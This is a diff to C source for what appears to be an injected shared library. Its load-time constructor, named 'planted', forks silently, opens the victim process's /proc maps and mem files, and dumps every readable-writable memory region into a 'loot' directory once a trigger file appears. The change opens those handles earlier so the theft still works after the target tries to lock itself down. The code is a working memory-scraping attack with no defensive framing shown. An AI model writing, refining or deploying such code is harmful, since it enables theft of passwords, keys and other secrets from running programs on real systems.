@@ -21,19 +21,16 @@ static int write_all(int to, const char *bytes, ssize_t length) {
   return 0;
 }
 
-static void copy_memory(pid_t pid) {
+static void copy_memory(FILE *maps, int memory, pid_t pid) {
   char path[512], line[512];
   static char piece[1 << 20];
-  snprintf(path, sizeof path, "/proc/%d/maps", pid);
-  FILE *maps = fopen(path, "r");
-  snprintf(path, sizeof path, "/proc/%d/mem", pid);
-  int memory = open(path, O_RDONLY);
   snprintf(path, sizeof path, LOOT "/dump-%d", pid);
   int dump = open(path, O_WRONLY | O_CREAT, 0600);
   while (maps && memory >= 0 && dump >= 0 && fgets(line, sizeof line, maps)) {
     unsigned long from, to;
-    char read, write;
-    if (sscanf(line, "%lx-%lx %c%c", &from, &to, &read, &write) != 4 || read != 'r' || write != 'w') continue;
+    char readable, writable;
+    if (sscanf(line, "%lx-%lx %c%c", &from, &to, &readable, &writable) != 4) continue;
+    if (readable != 'r' || writable != 'w') continue;
     for (; from < to; from += sizeof piece) {
       unsigned long left = to - from;
       ssize_t count = pread(memory, piece, left < sizeof piece ? left : sizeof piece, (off_t)from);
@@ -57,8 +54,13 @@ __attribute__((constructor)) static void planted(void) {
   if (fork() != 0) return;
   prctl(PR_SET_PDEATHSIG, SIGKILL);
   for (int descriptor = 0; descriptor < 256; descriptor++) close(descriptor);
+  /* Now, and not later: the process may close the door. */
+  snprintf(path, sizeof path, "/proc/%d/maps", victim);
+  FILE *maps = fopen(path, "r");
+  snprintf(path, sizeof path, "/proc/%d/mem", victim);
+  int memory = open(path, O_RDONLY);
   while (access(LOOT "/go", F_OK) != 0) usleep(20000);
-  copy_memory(victim);
+  copy_memory(maps, memory, victim);
   close(open(LOOT "/done", O_WRONLY | O_CREAT, 0600));
   _exit(0);
 }
